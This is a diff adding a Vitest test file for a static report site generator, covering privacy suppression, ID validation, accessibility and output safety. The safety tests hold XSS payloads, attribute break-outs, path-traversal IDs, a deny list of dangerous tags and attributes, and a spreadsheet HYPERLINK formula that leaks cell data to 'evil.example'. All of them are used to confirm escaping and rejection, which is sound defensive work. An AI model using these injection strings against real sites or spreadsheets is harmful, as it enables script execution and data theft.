@@ -1,0 +1,357 @@
+import path from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { suppressReport } from '../../../functions/core/privacy/suppress.ts';
+import { type Report, reportSchema } from '../../../functions/core/report/schema.ts';
+import { assertSafeSvg, PublishError, renderSite, type SiteFile } from '../../../web/index.ts';
+import { rootPrefix } from '../../../web/paths.ts';
+import { hostileNamesReport, sampleReport } from '../../fixtures/reports.ts';
+
+const GENERATED_AT = '2024-05-02T08:00:00.000Z';
+const RUN = 'datasets/marketing-leads/runs/20240501T120000Z/index.html';
+const HOSTILE_RUN = 'datasets/hostile-names/runs/run-1/index.html';
+
+function olderRun(): Report {
+  const report = sampleReport();
+  report.run = { ...report.run, id: '20240401T120000Z', startedAt: '2024-04-01T12:00:00.000Z' };
+  report.status = 'warn';
+  return report;
+}
+
+function publish(...reports: Report[]): Report[] {
+  return reports.map((r) => suppressReport(r, r.privacy.minCellSize));
+}
+
+async function site(): Promise<Map<string, SiteFile>> {
+  const files = await renderSite({
+    reports: publish(sampleReport(), olderRun(), hostileNamesReport()),
+    generatedAt: GENERATED_AT,
+  });
+  return new Map(files.map((f) => [f.path, f]));
+}
+
+function text(files: Map<string, SiteFile>, p: string): string {
+  const body = files.get(p)?.body;
+  if (typeof body !== 'string') throw new Error(`no text file ${p}`);
+  return body;
+}
+
+/** The opening tags of an HTML page with their attributes (preact quotes every value with "). */
+function tags(html: string): { name: string; attributes: Map<string, string> }[] {
+  return [...html.matchAll(/<([a-zA-Z][a-zA-Z0-9-]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/g)].map((m) => ({
+    name: m[1]!.toLowerCase(),
+    attributes: new Map(
+      [...(m[2] ?? '').matchAll(/\s+([^\s=>/]+)(?:="([^"]*)")?/g)].map((a) => [
+        a[1]!.toLowerCase(),
+        a[2] ?? '',
+      ]),
+    ),
+  }));
+}
+
+/** The `<tr>` of a table row whose header cell is exactly `group` (escaped as in the page). */
+function row(html: string, group: string): string {
+  const escaped = group.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
+  const match = [...html.matchAll(/<tr[^>]*>([\s\S]*?)<\/tr>/g)].find((m) =>
+    m[1]!.includes(`<th scope="row" class="group">${escaped}</th>`),
+  );
+  if (!match) throw new Error(`no row for ${group}`);
+  return match[0];
+}
+
+describe('renderSite: files', () => {
+  it('writes the index, one page per dataset, one page and report.json per run, and the stylesheet', async () => {
+    const files = await renderSite({
+      reports: publish(sampleReport(), olderRun(), hostileNamesReport()),
+      generatedAt: GENERATED_AT,
+    });
+    expect(files.map((f) => [f.path, f.contentType])).toEqual([
+      ['assets/site.css', 'text/css; charset=utf-8'],
+      ['index.html', 'text/html; charset=utf-8'],
+      ['datasets/hostile-names/index.html', 'text/html; charset=utf-8'],
+      ['datasets/hostile-names/runs/run-1/index.html', 'text/html; charset=utf-8'],
+      ['datasets/hostile-names/runs/run-1/report.json', 'application/json; charset=utf-8'],
+      ['datasets/marketing-leads/index.html', 'text/html; charset=utf-8'],
+      ['datasets/marketing-leads/runs/20240501T120000Z/index.html', 'text/html; charset=utf-8'],
+      ['datasets/marketing-leads/runs/20240501T120000Z/report.json', 'application/json; charset=utf-8'],
+      ['datasets/marketing-leads/runs/20240401T120000Z/index.html', 'text/html; charset=utf-8'],
+      ['datasets/marketing-leads/runs/20240401T120000Z/report.json', 'application/json; charset=utf-8'],
+    ]);
+  });
+
+  it('publishes report.json as the suppressed report, valid report@1', async () => {
+    const files = await site();
+    const json = JSON.parse(
+      text(files, 'datasets/marketing-leads/runs/20240501T120000Z/report.json'),
+    ) as unknown;
+    expect(reportSchema.parse(json)).toEqual(suppressReport(sampleReport(), 10));
+  });
+
+  it('renders an empty site when there are no reports', async () => {
+    const files = await renderSite({ reports: [], generatedAt: GENERATED_AT });
+    expect(files.map((f) => f.path)).toEqual(['assets/site.css', 'index.html']);
+    expect(files[1]!.body).toContain('No reports have been published yet.');
+  });
+});
+
+describe('renderSite: refuses what must not be published', () => {
+  const refused = async (reports: Report[]) => {
+    try {
+      await renderSite({ reports, generatedAt: GENERATED_AT });
+    } catch (error) {
+      expect(error).toBeInstanceOf(PublishError);
+      return (error as PublishError).code;
+    }
+    throw new Error('renderSite accepted it');
+  };
+
+  it('an unsuppressed report (publishing it is a bug)', async () => {
+    expect(await refused([sampleReport()])).toBe('REPORT_NOT_SUPPRESSED');
+  });
+
+  it('a report marked suppressed that still shows a count below k', async () => {
+    const report = sampleReport();
+    report.privacy.suppressed = true;
+    expect(await refused([report])).toBe('REPORT_NOT_SUPPRESSED');
+  });
+
+  it('a report that is not valid report@1', async () => {
+    const report = suppressReport(sampleReport(), 10);
+    (report.rows as { read: number }).read = Number.NaN;
+    expect(await refused([report])).toBe('REPORT_INVALID');
+  });
+
+  it.each(['../evil', 'Marketing', '-lead', 'a/b', 'a'.repeat(64), ''])('dataset id %j', async (id) => {
+    const report = suppressReport(sampleReport(), 10);
+    report.dataset.id = id;
+    expect(await refused([report])).toBe('INVALID_ID');
+  });
+
+  it.each(['..', '.', 'a/b', '..%2f', 'run 1', '', 'x\\y'])('run id %j', async (id) => {
+    const report = suppressReport(sampleReport(), 10);
+    report.run.id = id;
+    expect(await refused([report])).toBe('INVALID_ID');
+  });
+
+  it('accepts the longest dataset id and run ids with dots', async () => {
+    const report = suppressReport(sampleReport(), 10);
+    report.dataset.id = `a${'-'.repeat(62)}`;
+    report.run.id = 'v1.2_3-x';
+    const files = await renderSite({ reports: [report], generatedAt: GENERATED_AT });
+    expect(files.map((f) => f.path)).toContain(`datasets/${report.dataset.id}/runs/v1.2_3-x/index.html`);
+  });
+
+  it('the same run twice', async () => {
+    expect(await refused(publish(sampleReport(), sampleReport()))).toBe('DUPLICATE_RUN');
+  });
+});
+
+describe('renderSite: pages', () => {
+  it('index lists every dataset with its latest run, status and time', async () => {
+    const html = text(await site(), 'index.html');
+    expect(html).toContain('<a href="datasets/marketing-leads/index.html">marketing-leads</a>');
+    expect(html).toContain(
+      '<a href="datasets/marketing-leads/runs/20240501T120000Z/index.html">20240501T120000Z</a>',
+    );
+    expect(html).not.toContain('20240401T120000Z');
+    expect(html).toContain('<span class="badge badge-fail">fail</span>');
+    expect(html).toContain('<time datetime="2024-05-01T12:00:04.250Z">2024-05-01 12:00 UTC</time>');
+    expect(html.indexOf('hostile-names')).toBeLessThan(html.indexOf('marketing-leads'));
+  });
+
+  it('a dataset page lists its runs newest first', async () => {
+    const html = text(await site(), 'datasets/marketing-leads/index.html');
+    const newer = html.indexOf('runs/20240501T120000Z/index.html');
+    const older = html.indexOf('runs/20240401T120000Z/index.html');
+    expect(newer).toBeGreaterThan(0);
+    expect(older).toBeGreaterThan(newer);
+    expect(html).toContain('<caption>Runs of marketing-leads, newest first</caption>');
+  });
+
+  it('a run page has the verdict with the reasons from the checks, and the rows', async () => {
+    const html = text(await site(), RUN);
+    expect(html).toContain('<span class="badge badge-fail badge-large">fail</span>');
+    expect(html).toContain('Total variation distance of age_band is 0.13, above the limit 0.05.');
+    for (const [label, value] of [
+      ['Read', '1,012'],
+      ['Used', '1,000'],
+      ['Excluded (no consent)', '8'],
+      ['Malformed', '4'],
+    ]) {
+      expect(html).toContain(`<dt>${label}</dt><dd>${value}</dd>`);
+    }
+  });
+
+  it('each attribute has its chart as inline SVG with a text alternative, beside its table', async () => {
+    const html = text(await site(), RUN);
+    const charts = [...html.matchAll(/<div class="chart" role="img" aria-label="([^"]*)"><svg /g)];
+    expect(charts).toHaveLength(2);
+    expect(charts[1]![1]).toContain('Bar chart of the share of rows per group of age_band');
+    const headers = [
+      'Group',
+      'Count',
+      'Share',
+      '95 % CI',
+      'Reference share',
+      'Ratio',
+      'p (adjusted)',
+      'Status',
+    ];
+    const thead = html.match(/<thead><tr>([\s\S]*?)<\/tr><\/thead>/)![1]!;
+    expect([...thead.matchAll(/<th[^>]*>([^<]*)<\/th>/g)].map((m) => m[1])).toEqual(headers);
+    expect(html).toContain(
+      '<caption>age_band: dataset share compared with the reference (991 rows)</caption>',
+    );
+    expect(row(html, '75+')).toContain('<td class="num">41</td>');
+    expect(row(html, '75+')).toContain('80 more rows needed');
+  });
+
+  it('shows a small hidden cell as <k and a complementary one as hidden, with nothing behind them', async () => {
+    const files = await site();
+    const html = text(files, RUN);
+    const diverse = row(html, 'diverse');
+    expect(diverse).toContain('<td class="num">&lt;10</td>');
+    expect(diverse).toContain('hidden: fewer than 10');
+    const female = row(html, 'female');
+    expect(female).toContain('<td class="num">hidden</td>');
+    expect(female).toContain('50.7 %'); // the reference share is not a count of the dataset
+    expect(row(html, 'male|75+')).toContain('<td class="num">&lt;10</td>');
+    // female (480 rows, 48.4 %) is hidden as the complement of diverse: neither number is anywhere.
+    for (const file of [RUN, RUN.replace('index.html', 'report.json')]) {
+      const body = text(files, file);
+      expect(body).not.toMatch(/\b480\b/);
+      expect(body).not.toContain('48.4');
+      expect(body).not.toContain('0.4843');
+    }
+  });
+
+  it('labels intersections with their basis', async () => {
+    const report = sampleReport();
+    const marginal = structuredClone(report.intersections[0]!);
+    marginal.basis = 'product-of-marginals';
+    marginal.reference = null;
+    marginal.attributes = ['age_band', 'sex'];
+    report.intersections.push(marginal);
+    const files = await renderSite({ reports: publish(report), generatedAt: GENERATED_AT });
+    const html = text(new Map(files.map((f) => [f.path, f])), RUN);
+    expect(html).toContain('<caption>sex × age_band, vs joint reference (966 rows)</caption>');
+    expect(html).toContain('<caption>age_band × sex, vs product of marginals (966 rows)</caption>');
+    expect(html).toContain('Compared vs joint reference <code>de-2023/sex_x_age_band</code>');
+    expect(html).toContain('<li>diverse|75+</li>');
+  });
+
+  it('lists warnings and provenance: sources, URLs, licences and the columns read', async () => {
+    const html = text(await site(), RUN);
+    expect(html).toContain('<code>no-reference-group</code> (sex/diverse) The reference has no share');
+    expect(html).toContain('<code>privacy-statistics-withheld</code> (sex)');
+    expect(html).toContain(
+      '<a href="https://www-genesis.destatis.de/genesis/online?operation=table&amp;code=12411-0005" rel="noopener noreferrer external">',
+    );
+    expect(html).toContain('Datenlizenz Deutschland – Namensnennung – Version 2.0');
+    expect(html).toContain('<li><code>converted</code></li>');
+    expect(html).toContain('The chi-square test, distances and diversity of sex are withheld');
+    expect(html).toContain('χ² = 148.62, df = 6, p &lt; 0.001 (asymptotic)');
+  });
+
+  it('is accessible: language, one h1, captions on every table, labelled chart, breadcrumb', async () => {
+    const files = await site();
+    for (const [p, file] of files) {
+      if (!p.endsWith('.html')) continue;
+      const html = file.body as string;
+      expect(html.startsWith('<!doctype html>\n<html lang="en">'), p).toBe(true);
+      expect(html.match(/<h1[ >]/g), p).toHaveLength(1);
+      expect(html.match(/<table>/g)?.length ?? 0, p).toBe(html.match(/<caption>/g)?.length ?? 0);
+      expect(html, p).toContain('<nav class="breadcrumb" aria-label="Breadcrumb">');
+      expect(html, p).toMatch(/<title>[^<]+ · repscope<\/title>/);
+    }
+  });
+});
+
+describe('renderSite: safe to open', () => {
+  it('renders hostile names as inert text everywhere', async () => {
+    const files = await site();
+    const html = text(files, HOSTILE_RUN);
+    expect(html).toContain('<th scope="row" class="group">&lt;script>alert(1)&lt;/script></th>');
+    expect(html).toContain(
+      '<th scope="row" class="group">=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;click&quot;)</th>',
+    );
+    expect(html).toContain(
+      '<th scope="row" class="group">&quot; onmouseover=&quot;alert(2)&quot; x=&quot;</th>',
+    );
+    expect(html).toContain('<h3 id="attribute-0">&lt;b>region&lt;/b></h3>');
+    expect(html).toContain('<code>javascript:alert(6)</code>');
+    for (const [p, file] of files) {
+      if (!p.endsWith('.html')) continue;
+      for (const tag of tags(file.body as string)) {
+        expect(
+          ['script', 'img', 'iframe', 'object', 'embed', 'foreignobject', 'base', 'form'],
+          p,
+        ).not.toContain(tag.name);
+        for (const [name, value] of tag.attributes) {
+          expect(name.startsWith('on'), `${p}: <${tag.name} ${name}>`).toBe(false);
+          expect(['style', 'srcdoc', 'xlink:href'], p).not.toContain(name);
+          if ((name === 'href' || name === 'src') && !(tag.name === 'link' && value === 'data:,')) {
+            expect(value, p).not.toMatch(/^\s*(javascript|data|vbscript):/i);
+          }
+        }
+      }
+    }
+  });
+
+  it('needs no JavaScript and no network: no scripts, no absolute links except cited sources', async () => {
+    const files = await site();
+    for (const [p, file] of files) {
+      if (!p.endsWith('.html')) continue;
+      for (const tag of tags(file.body as string)) {
+        const target = tag.attributes.get('href') ?? tag.attributes.get('src');
+        if (target === undefined) continue;
+        if (tag.name === 'a' && /^https?:\/\//.test(target)) {
+          expect(tag.attributes.get('rel'), p).toContain('external');
+          continue;
+        }
+        if (target === 'data:,') continue; // the empty favicon, so browsers do not ask for one
+        expect(target, p).not.toMatch(/^([a-z]+:|\/)/i);
+      }
+    }
+  });
+
+  it('links relatively, and every link resolves to a file of the site', async () => {
+    const files = await site();
+    let checked = 0;
+    for (const [p, file] of files) {
+      if (!p.endsWith('.html')) continue;
+      for (const tag of tags(file.body as string)) {
+        const target = tag.attributes.get('href');
+        if (target === undefined || /^([a-z]+:)/i.test(target)) continue;
+        const resolved = path.posix.normalize(path.posix.join(path.posix.dirname(p), target));
+        expect(files.has(resolved), `${p} → ${target}`).toBe(true);
+        checked += 1;
+      }
+    }
+    expect(checked).toBeGreaterThan(20);
+    expect(rootPrefix('index.html')).toBe('');
+    expect(rootPrefix('datasets/x/runs/y/index.html')).toBe('../../../../');
+  });
+});
+
+describe('assertSafeSvg', () => {
+  it('accepts what vega draws', async () => {
+    const files = await site();
+    const svgs = [...text(files, HOSTILE_RUN).matchAll(/<svg [\s\S]*?<\/svg>/g)].map((m) => m[0]);
+    expect(svgs).toHaveLength(1);
+    expect(() => assertSafeSvg(svgs[0]!)).not.toThrow();
+  });
+
+  it.each([
+    ['not svg', '<div></div>'],
+    ['a script', '<svg><script>alert(1)</script></svg>'],
+    ['an event handler', '<svg onload="alert(1)"></svg>'],
+    ['a link', '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>'],
+    ['foreignObject', '<svg><foreignObject><div>x</div></foreignObject></svg>'],
+    ['an unquoted attribute', '<svg><g onclick=alert(1)></g></svg>'],
+    ['an inline style', '<svg><g style="x"></g></svg>'],
+    ['a stray <', '<svg><text>a < b</text></svg>'],
+    ['two documents', '<svg></svg><script>alert(1)</script><svg></svg>'],
+  ])('rejects %s', (_name, svg) => {
+    expect(() => assertSafeSvg(svg)).toThrow(PublishError);
+  });
+});
